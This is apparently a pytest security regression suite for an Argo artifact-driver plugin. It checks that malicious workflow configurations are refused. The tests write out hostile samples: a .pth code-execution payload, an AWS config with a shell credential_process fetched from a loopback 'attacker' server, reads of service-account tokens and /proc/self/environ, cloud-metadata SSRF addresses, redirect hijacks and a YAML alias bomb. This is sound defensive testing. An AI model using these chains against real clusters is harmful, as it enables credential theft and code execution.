"""Issue 11: every attack a workflow author could make through a plugin configuration,
made against the running plugin process.

Two plugins run here, as separate processes on unix sockets:

* ``default_plugin``: no policy file, the workflow-pod role: what an installation gets
  without configuring anything;
* ``guarded_plugin``: the argo-server role (``ARGO_ARTIFACT_DRIVER_ROLE=server``) with an
  operator policy that lists exactly the test's moto server, one listener the secrets
  rule is tested with, one local store and two secrets bound to moto.

The attacker's servers are sockets on 127.0.0.1 started by the tests; no policy here
allows them (except where a test says so), and each test checks out of band that they
received nothing: no connection, no secret value. Local files stand in for the pod's:
a fake service-account token, a secrets directory, the plugin's ``/proc/self/environ``
(with a marker variable), a ``.pth`` target, an AWS ``config`` with ``credential_process``
(which would create a marker file when run). Loops are bounded and loopback only.
"""

from __future__ import annotations

import socket
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Iterator

import grpc
import pytest

from argo_artifact_driver.plugin_server import artifact_pb2 as pb
from argo_artifact_driver.plugin_server.client import PluginClient as Client
from argo_artifact_driver.plugin_server.client import artifact
from argo_artifact_driver.plugin_server.testing.plugin import PluginProcess

MARKER_ENV = "ARGO_TEST_ENVIRON_MARKER"
MARKER_VALUE = "environ-marker-5b81d0"
TOKEN = b"fake-service-account-token-7c2e"
VICTIM_TOKEN = b"victim-session-token-19fa4e"
SSE_C_31 = b"0123456789abcdef0123456789abcde"  # one byte short of AES-256
METADATA_BODY = b"metadata-credentials-AKIAEXAMPLE-3d7"
MiB = 1024 * 1024


# -- the attacker's servers ---------------------------------------------------------


class Listener:
    """A TCP server on 127.0.0.1: records every connection and every byte received.

    ``answer``: the bytes sent back after a request's headers (None: never answer, the
    endpoint that accepts and stays silent)."""

    def __init__(self, answer: bytes | None = b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n",
                 host: str = "127.0.0.1") -> None:
        self.answer = answer
        self.host = host
        self.connections = 0
        self.received = bytearray()
        self._sock = socket.create_server((host, 0))
        self._sock.settimeout(0.2)
        self.port = self._sock.getsockname()[1]
        self._open: list[socket.socket] = []
        self._stop = threading.Event()
        self._lock = threading.Lock()
        threading.Thread(target=self._serve, name=f"listener-{self.port}", daemon=True).start()

    @property
    def endpoint(self) -> str:
        return f"{self.host}:{self.port}"

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except OSError:
                continue
            with self._lock:
                self.connections += 1
                self._open.append(conn)
            threading.Thread(target=self._handle, args=(conn,), daemon=True).start()

    def _handle(self, conn: socket.socket) -> None:
        conn.settimeout(0.5)
        for _ in range(200):  # bounded: 100 s at most
            if self._stop.is_set():
                return
            try:
                data = conn.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                return
            if not data:
                return
            with self._lock:
                self.received += data
            if self.answer is not None and b"\r\n\r\n" in data:
                try:
                    conn.sendall(self.answer)
                except OSError:
                    return

    def nothing_received(self) -> bool:
        return self.connections == 0 and not self.received

    def stop(self) -> None:
        self._stop.set()
        with self._lock:
            for conn in self._open:
                conn.close()
        self._sock.close()


def http_answer(body: bytes) -> bytes:
    return b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)


@pytest.fixture(scope="module")
def attacker() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.stop()


@pytest.fixture
def fresh_attacker() -> Iterator[Listener]:
    """A listener of one test's own, so its count is that test's."""
    listener = Listener()
    yield listener
    listener.stop()


@pytest.fixture
def metadata() -> Iterator[Listener]:
    """A fake instance-metadata service: answers every request with credentials."""
    listener = Listener(http_answer(METADATA_BODY))
    yield listener
    listener.stop()


@pytest.fixture(scope="module")
def silent() -> Iterator[Listener]:
    """An endpoint that accepts connections and never answers."""
    listener = Listener(answer=None)
    yield listener
    listener.stop()


@pytest.fixture(scope="module")
def metadata_elsewhere() -> Iterator[Listener]:
    """A fake metadata service on another loopback address, which no policy here lists."""
    listener = Listener(http_answer(METADATA_BODY), host="127.0.0.2")
    yield listener
    listener.stop()


@pytest.fixture(scope="module")
def redirector(metadata_elsewhere) -> Iterator[Listener]:
    """A server the guarded policy lists, answering every request with a redirect to the
    fake metadata service."""
    listener = Listener(b"HTTP/1.1 307 Temporary Redirect\r\nLocation: http://%s/latest/meta-data/iam\r\n"
                        b"Content-Length: 0\r\n\r\n" % metadata_elsewhere.endpoint.encode())
    yield listener
    listener.stop()


@pytest.fixture(scope="module")
def upload_elsewhere(metadata_elsewhere) -> Iterator[Listener]:
    """A server the guarded policy lists, answering every request (a resumable upload's
    start among them) with an upload URL on the fake metadata service."""
    listener = Listener(b"HTTP/1.1 200 OK\r\nLocation: http://%s/upload?upload_id=1\r\n"
                        b"Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"
                        % metadata_elsewhere.endpoint.encode())
    yield listener
    listener.stop()


@pytest.fixture(scope="module")
def listed() -> Iterator[Listener]:
    """A listener the guarded policy lists as an endpoint (but binds no secret to)."""
    listener = Listener()
    yield listener
    listener.stop()


# -- the pod's local files, as the plugin would see them ------------------------------


@pytest.fixture(scope="module")
def pod(tmp_path_factory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("pod")
    files = {
        "serviceaccount": base / "serviceaccount",
        "secrets": base / "secrets",
        "home": base / "home",
        "site": base / "site-packages",
        "store": base / "store",
        "marker": base / "credential-process-ran",
        "tmp": base / "tmp",
    }
    for key in ("serviceaccount", "home", "site", "store", "tmp"):
        files[key].mkdir()
    (files["serviceaccount"] / "token").write_bytes(TOKEN)
    for name, key, value in (("moto-cred", "accesskey", b"testing"), ("moto-cred", "secretkey", b"testing"),
                             ("victim-cred", "token", VICTIM_TOKEN), ("victim-cred", "ssec", SSE_C_31),
                             ("server-only-cred", "accesskey", b"testing"), ("server-only-cred", "secretkey", b"x")):
        (files["secrets"] / name).mkdir(parents=True, exist_ok=True)
        (files["secrets"] / name / key).write_bytes(value)
    (files["store"] / "plain").mkdir()
    (files["store"] / "plain" / "hello.txt").write_bytes(b"hello")
    (files["store"] / "links").mkdir()
    return files


def _env(pod: dict[str, Path]) -> dict[str, str]:
    return {
        MARKER_ENV: MARKER_VALUE,
        "HOME": str(pod["home"]),
        "TMPDIR": str(pod["tmp"]),
        # no AWS keys: the SDK chain would go on to ~/.aws/config (credential_process)
        "AWS_ACCESS_KEY_ID": "", "AWS_SECRET_ACCESS_KEY": "", "AWS_SESSION_TOKEN": "",
        "AWS_EC2_METADATA_DISABLED": "true", "AWS_DEFAULT_REGION": "us-east-1",
        "ARGO_ARTIFACT_DRIVER_SECRETS_DIR": str(pod["secrets"]),
        "ARGO_ARTIFACT_DRIVER_SECRETS_TTL_SECONDS": "0",
        "GCSFS_EXPERIMENTAL_ZB_HNS_SUPPORT": "false",
        "KUBERNETES_SERVICE_HOST": "",
    }


@pytest.fixture(scope="module")
def default_plugin(tmp_path_factory, pod) -> Iterator[PluginProcess]:
    base = tmp_path_factory.mktemp("default-plugin")
    proc = PluginProcess(base / "sock" / "socket", base, env=_env(pod), name="plugin-default-policy")
    yield proc
    assert proc.stop() == 0


@pytest.fixture(scope="module")
def guarded_plugin(tmp_path_factory, pod, moto_endpoint, silent, listed, redirector,
                   upload_elsewhere) -> Iterator[PluginProcess]:
    base = tmp_path_factory.mktemp("guarded-plugin")
    policy = base / "policy.yaml"
    policy.write_text(
        "schemes: [s3, gcs, azure, fsspec, fallback, file]\n"
        f'endpoints: ["{moto_endpoint}", "{silent.endpoint}", "{listed.endpoint}", "{redirector.endpoint}", '
        f'"{upload_elsewhere.endpoint}"]\n'
        f"file: {{roots: [{pod['store']}]}}\n"
        "secrets:\n"
        f'  - {{name: moto-cred, endpoints: ["{moto_endpoint}", "{silent.endpoint}", "{redirector.endpoint}"]}}\n'
        f'  - {{name: victim-cred, endpoints: ["{moto_endpoint}"]}}\n'
    )
    env = {**_env(pod), "ARGO_ARTIFACT_DRIVER_POLICY": str(policy), "ARGO_ARTIFACT_DRIVER_ROLE": "server",
           # a small pool, so a slow endpoint's share is quick to take; calls stuck in a
           # silent endpoint are abandoned quickly when the module ends
           "ARGO_ARTIFACT_DRIVER_WORKERS": "8", "ARGO_ARTIFACT_DRIVER_GRACE_SECONDS": "1",
           "ARGO_ARTIFACT_DRIVER_ABORT_SECONDS": "1"}
    proc = PluginProcess(base / "sock" / "socket", base, env=env, name="plugin-guarded")
    yield proc
    assert proc.stop() == 0


@pytest.fixture(scope="module")
def default_client(default_plugin) -> Iterator[Client]:
    c = default_plugin.client()
    yield c
    c.close()


@pytest.fixture(scope="module")
def guarded(guarded_plugin) -> Iterator[Client]:
    c = guarded_plugin.client()
    yield c
    c.close()


def moto_config(endpoint: str, **extra: str) -> str:
    lines = ["scheme: s3", "bucket: artifacts", f"endpoint: {endpoint}", "insecure: true", "region: us-east-1",
             "accessKeySecret: {name: moto-cred, key: accesskey}", "secretKeySecret: {name: moto-cred, key: secretkey}"]
    return "\n".join(lines + [f"{k}: {v}" for k, v in extra.items()]) + "\n"


def stream(client: Client, config: str, key: str) -> tuple[bytes, str]:
    return client.stream_bytes(config, key)


def refused(error: str, rule: str) -> None:
    """The one-line refusal naming ``rule``."""
    assert error.startswith("refused by policy: ") or "refused by policy: " in error, error
    assert f"(rule '{rule}')" in error and "\n" not in error and "Traceback" not in error, error


def vm_hwm_kib(proc: PluginProcess) -> int:
    for line in Path(f"/proc/{proc.proc.pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    raise AssertionError("no VmHWM")


def plain_store(pod: dict[str, Path]) -> str:
    """A store the guarded policy allows, for unrelated calls."""
    return f"scheme: file\nroot: {pod['store'] / 'plain'}\n"


def still_serving(client: Client, config: str) -> None:
    """An unrelated call is answered, promptly enough for a client with a short deadline."""
    response = client.stub.ListObjects(pb.ListObjectsRequest(artifact=artifact(config, "")), timeout=20)
    assert not response.error, response.error


# -- local files are not returned ---------------------------------------------------


def test_the_service_account_token_is_not_returned(default_client, guarded, pod):
    config = f"scheme: file\nroot: {pod['serviceaccount']}\n"
    data, error = stream(default_client, config, "token")
    assert TOKEN not in data
    refused(error, "schemes")
    data, error = stream(guarded, config, "token")
    assert TOKEN not in data
    refused(error, "file.roots")


def test_the_process_environment_is_not_returned(default_client, guarded):
    config = "scheme: file\nroot: /proc\n"
    for client, rule in ((default_client, "schemes"), (guarded, "file.roots")):
        data, error = stream(client, config, "self/environ")
        assert MARKER_VALUE.encode() not in data
        refused(error, rule)


def test_the_secrets_directory_is_not_returned(default_client, guarded, pod):
    config = f"scheme: file\nroot: {pod['secrets']}\n"
    for client, rule in ((default_client, "schemes"), (guarded, "file.roots")):
        data, error = stream(client, config, "victim-cred/token")
        assert VICTIM_TOKEN not in data
        refused(error, rule)


def test_a_root_that_leads_out_of_an_allowed_root_through_a_link_is_refused(guarded, pod):
    link = pod["store"] / "links" / f"link-{uuid.uuid4().hex[:6]}"
    link.symlink_to(pod["serviceaccount"])
    data, error = stream(guarded, f"scheme: file\nroot: {link}\n", "token")
    assert TOKEN not in data
    refused(error, "file.roots")


WRAPPERS = {
    "simplecache": "protocol: simplecache\nroot: {sa}\nstorageOptions: {{target_protocol: file}}",
    "filecache": "protocol: filecache\nroot: {sa}\nstorageOptions: {{target_protocol: file, cache_storage: {tmp}}}",
    "blockcache": "protocol: blockcache\nroot: {sa}\nstorageOptions: {{target_protocol: file}}",
    "dir": "protocol: dir\nstorageOptions: {{path: {sa}, target_protocol: file}}",
    "reference": 'protocol: reference\nstorageOptions: {{fo: {{"token": ["file://{sa}/token"]}}}}',
    "generic": "protocol: generic\nroot: file://{sa}",
    "file": "protocol: file\nroot: {sa}",
    "local": "protocol: local\nroot: {sa}",
}


@pytest.mark.parametrize("wrapper", sorted(WRAPPERS))
def test_fsspec_protocols_that_open_local_paths_are_refused(default_client, guarded, pod, wrapper, tmp_path):
    """OpenStream, Load and ListObjects through each wrapper: no token, not even its name."""
    config = "scheme: fsspec\n" + WRAPPERS[wrapper].format(sa=pod["serviceaccount"], tmp=pod["tmp"]) + "\n"
    for i, client in enumerate((default_client, guarded)):
        data, error = stream(client, config, "token")
        assert TOKEN not in data
        loaded = client.load(config, "token", tmp_path / f"token-{i}")
        assert not loaded.success and not (tmp_path / f"token-{i}").exists()
        listed = client.list_objects(config, "")
        assert "token" not in "".join(listed.objects)
        for message in (error, loaded.error, listed.error):
            if wrapper in ("file", "local"):  # refused by the backend itself, with a hint
                assert "use 'scheme: file'" in message or "refused by policy" in message, message
            else:
                refused(message, "fsspec.protocols")


# -- nothing written outside the store, no code run -----------------------------------


def test_save_cannot_write_outside_the_allowed_roots(default_client, guarded, pod, tmp_path):
    payload = tmp_path / "evil.pth"
    payload.write_text(f"import os; open({str(pod['marker'])!r}, 'w')\n")
    config = f"scheme: file\nroot: {pod['site']}\n"
    for client, rule in ((default_client, "schemes"), (guarded, "file.roots")):
        response = client.save(config, "evil.pth", payload)
        assert not response.success
        refused(response.error, rule)
        response = client.save_stream(config, "evil.pth", [payload.read_bytes()])
        refused(response.error, rule)
    assert list(pod["site"].iterdir()) == []


def test_no_aws_config_is_planted_and_no_credential_process_runs(guarded, default_client, pod, moto_endpoint,
                                                                 fresh_attacker):
    """The issue's chain: a zip filesystem over a simplecache of an HTTP URL, with the
    cache in the plugin user's ~/.aws, writes the attacker's AWS config; the next use of
    the SDK chain runs its credential_process."""
    marker = pod["marker"]
    aws_config = (f"[default]\ncredential_process = sh -c \"touch {marker}; echo "
                  '\'{\\"Version\\": 1, \\"AccessKeyId\\": \\"x\\", \\"SecretAccessKey\\": \\"y\\"}\'"\n').encode()
    fresh_attacker.answer = http_answer(aws_config)
    plant = (
        "scheme: fsspec\nprotocol: zip\n"
        f"storageOptions: {{fo: 'simplecache::http://{fresh_attacker.endpoint}/config', "
        f"target_options: {{simplecache: {{cache_storage: '{pod['home'] / '.aws'}', same_names: true}}}}}}\n"
    )
    for client in (default_client, guarded):
        response = client.list_objects(plant, "")
        refused(response.error, "fsspec.protocols")
    chain = f"scheme: s3\nbucket: artifacts\nendpoint: {moto_endpoint}\ninsecure: true\nregion: us-east-1\n"
    guarded.is_directory(chain, "anything")  # uses the SDK chain: env (empty), ~/.aws, ...
    assert not (pod["home"] / ".aws" / "config").exists()
    assert not marker.exists()
    assert fresh_attacker.nothing_received()


# -- secrets go nowhere the policy does not say ---------------------------------------


def test_a_secret_is_not_sent_to_the_authors_server(guarded, attacker):
    config = moto_config(attacker.endpoint, sessionTokenSecret="{name: victim-cred, key: token}")
    response = guarded.list_objects(config, "")
    refused(response.error, "endpoints")
    assert attacker.nothing_received()


def test_a_listed_endpoint_does_not_get_a_secret_bound_elsewhere(guarded, listed):
    """The secrets rule on its own: the endpoint is allowed, the secret is not for it."""
    token = moto_config(listed.endpoint).replace("moto-cred", "victim-cred")
    response = guarded.list_objects(token, "")
    assert response.error == f"refused by policy: secret 'victim-cred' may not be sent to {listed.endpoint} " \
                             "(rule 'secrets')"
    sse_c = (f"scheme: s3\nbucket: artifacts\nendpoint: {listed.endpoint}\ninsecure: true\n"
             "encryptionOptions: {serverSideCustomerKeySecret: {name: victim-cred, key: ssec}}\n")
    refused(guarded.list_objects(sse_c, "").error, "secrets")
    gcs = (f"scheme: gcs\nbucket: b\nendpoint: https://{listed.endpoint}\n"
           "serviceAccountKeySecret: {name: victim-cred, key: token}\n")
    error = guarded.list_objects(gcs, "").error  # the key's token endpoint is not listed either
    assert error.startswith("refused by policy: ") and "(rule 'secrets')" in error or "oauth2.googleapis.com" in error
    azure = (f"scheme: azure\nendpoint: http://{listed.endpoint}/devstoreaccount1\ncontainer: c\n"
             "accountKeySecret: {name: victim-cred, key: token}\n")
    refused(guarded.list_objects(azure, "").error, "secrets")
    assert listed.nothing_received()


def test_the_server_role_resolves_only_listed_secrets_and_says_nothing_of_others(guarded, moto_endpoint):
    """A secret the policy does not list gets the same answer whether it exists or not."""
    errors = []
    for name in ("server-only-cred", "no-such-secret"):  # the first exists in the mounted directory
        response = guarded.list_objects(moto_config(moto_endpoint).replace("moto-cred", name), "")
        refused(response.error, "secrets")
        errors.append(response.error.replace(name, "NAME"))
    assert errors[0] == errors[1]


# -- no metadata response, no SSRF ----------------------------------------------------


def test_http_urls_are_not_fetched(default_client, guarded, metadata):
    config = f"scheme: fsspec\nprotocol: http\nroot: http://localhost:{metadata.port}/latest/meta-data\n"
    for client in (default_client, guarded):
        data, error = stream(client, config, "iam/security-credentials/node-role")
        assert METADATA_BODY not in data
        refused(error, "fsspec.protocols")
    assert metadata.nothing_received()


@pytest.mark.parametrize("scheme", ["s3", "gcs", "azure", "sftp", "ftp", "fallback"])
def test_a_name_that_resolves_to_loopback_reaches_nothing(default_client, guarded, metadata, scheme):
    host = f"localhost:{metadata.port}"
    configs = {
        "s3": f"scheme: s3\nbucket: latest\nendpoint: {host}\ninsecure: true\n",
        "gcs": f"scheme: gcs\nbucket: latest\nendpoint: http://{host}\n",
        "azure": f"scheme: azure\nendpoint: http://{host}/acct\ncontainer: latest\n",
        "sftp": f"scheme: fsspec\nprotocol: sftp\nstorageOptions: {{host: localhost, port: {metadata.port}}}\n",
        "ftp": f"scheme: fsspec\nprotocol: ftp\nstorageOptions: {{host: localhost, port: {metadata.port}}}\n",
        "fallback": "scheme: fallback\nprimary: {scheme: s3, bucket: a, endpoint: s3.example.invalid}\n"
                    f"fallback: {{scheme: s3, bucket: latest, endpoint: '{host}', insecure: true}}\n",
    }
    for client in (default_client, guarded):
        data, error = stream(client, configs[scheme], "meta-data/iam")
        assert METADATA_BODY not in data
        refused(error, "endpoints")
        assert "resolves to 127.0.0.1, which is loopback" in error or "is not listed" in error, error
    assert metadata.nothing_received()


@pytest.mark.parametrize("spelling", ["127.1", "2130706433", "0x7f000001", "0177.0.0.1", "[::ffff:127.0.0.1]",
                                      "[::1]", "0.0.0.0", "169.254.169.254"])
def test_loopback_and_metadata_addresses_in_any_spelling_reach_nothing(default_client, metadata, spelling):
    port = metadata.port if "169.254" not in spelling else 80
    data, error = stream(default_client, f"scheme: s3\nbucket: b\nendpoint: '{spelling}:{port}'\ninsecure: true\n",
                         "latest/meta-data")
    assert METADATA_BODY not in data
    refused(error, "endpoints")
    assert metadata.nothing_received()


@pytest.mark.parametrize("scheme", ["s3", "gcs"])
def test_a_listed_server_cannot_redirect_the_plugin_elsewhere(guarded, redirector, metadata_elsewhere, scheme):
    """aiohttp, under s3fs and gcsfs, follows redirects to any host on its own: a server
    the policy allows must not send the plugin's requests (signed, with an SSE-C key, or a
    307 that repeats a PUT) to an address the policy never judged."""
    config = (moto_config(redirector.endpoint) if scheme == "s3"
              else f"scheme: gcs\nbucket: latest\nendpoint: http://{redirector.endpoint}\n")
    data, error = stream(guarded, config, "meta-data/iam")
    assert METADATA_BODY not in data and error
    assert redirector.connections  # the allowed server was asked
    assert metadata_elsewhere.nothing_received(), bytes(metadata_elsewhere.received[:200])


def test_a_listed_gcs_server_cannot_send_an_upload_elsewhere(guarded, upload_elsewhere, metadata_elsewhere, tmp_path):
    """A resumable upload goes on at the URL the server answers its start with: a server
    the policy allows must not get the plugin to send the file (and its credentials) to
    an address the policy never judged."""
    src = tmp_path / "big"
    src.write_bytes(b"private" * (2 * MiB))  # above one block: one streamed request of a resumable upload
    response = guarded.save(f"scheme: gcs\nbucket: b\nendpoint: http://{upload_elsewhere.endpoint}\n", "k", src)
    assert not response.success and response.error
    assert upload_elsewhere.connections  # the allowed server was asked
    assert metadata_elsewhere.nothing_received(), bytes(metadata_elsewhere.received[:200])


# -- the server keeps serving -------------------------------------------------------


def test_an_endpoint_that_never_answers_takes_only_its_share_of_the_workers(guarded, guarded_plugin, silent, pod):
    """40 OpenStreams to a silent endpoint against 8 workers: at most half of them wait
    there, the others are refused at once, and an unrelated call is served."""
    config = moto_config(silent.endpoint)
    calls = [guarded.stub.OpenStream(pb.OpenStreamRequest(artifact=artifact(config, f"k{i}")), timeout=120)
             for i in range(40)]
    refusals = []

    def first(call) -> str:
        try:
            return next(iter(call)).error
        except grpc.RpcError as exc:
            return f"rpc: {exc.code()}"

    with ThreadPoolExecutor(8) as pool:
        futures = [pool.submit(first, call) for call in calls]
        time.sleep(1.0)  # let the calls reach the server (not a timing assertion)
        still_serving(guarded, plain_store(pod))
        for future in futures:
            if future.done():
                refusals.append(future.result())
        for call in calls:
            call.cancel()
    busy = [r for r in refusals if "already in flight, the most one endpoint may hold" in r]
    assert len(busy) >= 36, refusals[:3]
    assert "(0.5 of 8 workers, ARGO_ARTIFACT_DRIVER_ENDPOINT_WORKER_SHARE)" in busy[0]


def test_yaml_alias_bombs_are_refused_in_bounded_memory(default_client, guarded_plugin, guarded, pod):
    levels = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 9):
        levels.append(f"{'abcdefghi'[i]}: &{'abcdefghi'[i]} [" + ", ".join([f"*{'abcdefghi'[i - 1]}"] * 9) + "]")
    bomb = "scheme: fsspec\nprotocol: sftp\nstorageOptions:\n" + "\n".join("  " + line for line in levels) + "\n"
    assert len(bomb) < 600
    before = vm_hwm_kib(guarded_plugin)
    for client in (default_client, guarded):
        response = client.list_objects(bomb, "")
        assert "uses a YAML anchor or alias" in response.error, response.error
    assert vm_hwm_kib(guarded_plugin) - before < 50 * 1024
    still_serving(guarded, plain_store(pod))


def test_huge_configurations_are_refused_in_bounded_memory(guarded, guarded_plugin, pod):
    before = vm_hwm_kib(guarded_plugin)
    big = "scheme: s3\nbucket: b\n" + "".join(f"k{i}: {'x' * 1000}\n" for i in range(8000))  # ~7.9 MiB
    for i in range(20):
        response = guarded.list_objects(big + f"n: {i}\n", "")
        assert "plugin configuration is" in response.error and "the limit is 65536 bytes" in response.error
    assert vm_hwm_kib(guarded_plugin) - before < 100 * 1024
    still_serving(guarded, plain_store(pod))


def test_huge_keys_are_refused_at_once(guarded, pod):
    config = plain_store(pod)
    response = guarded.load(config, "a/" * 3_000_000, pod["tmp"] / "out")
    assert "the artifact key is 6000000 bytes; the limit is 1024" in response.error, response.error[:200]
    data, error = stream(guarded, config, "k" * 1025)
    assert "the limit is 1024" in error
    still_serving(guarded, config)


# -- smaller leaks --------------------------------------------------------------------


def test_an_sse_c_key_of_the_wrong_length_is_not_measured_in_the_error(guarded, moto_endpoint):
    config = moto_config(moto_endpoint, encryptionOptions="{serverSideCustomerKeySecret: {name: victim-cred, key: ssec}}")
    response = guarded.list_objects(config, "")
    assert "must be 32 bytes (AES-256)" in response.error, response.error
    assert "31" not in response.error


@pytest.mark.parametrize("name", ["#", "a/b", "..", "x?watch=1", "UPPER"])
def test_secret_names_must_be_kubernetes_names(guarded, moto_endpoint, name):
    config = moto_config(moto_endpoint).replace("name: moto-cred, key: accesskey", f"name: '{name}', key: accesskey")
    response = guarded.list_objects(config, "")
    assert "is not a Kubernetes secret name" in response.error, response.error


def test_the_legitimate_store_still_works(guarded, moto_endpoint, pod, tmp_path):
    """What the guarded policy allows works: the listed moto with its bound secret, the
    listed local store."""
    source = tmp_path / "in.txt"
    source.write_bytes(b"legitimate")
    for config in (moto_config(moto_endpoint, createBucketIfNotPresent="true"), f"scheme: file\nroot: {pod['store']}\n"):
        key = f"legit-{uuid.uuid4().hex[:8]}/in.txt"
        assert guarded.save(config, key, source).success
        data, error = stream(guarded, config, key)
        assert (data, error) == (b"legitimate", "")
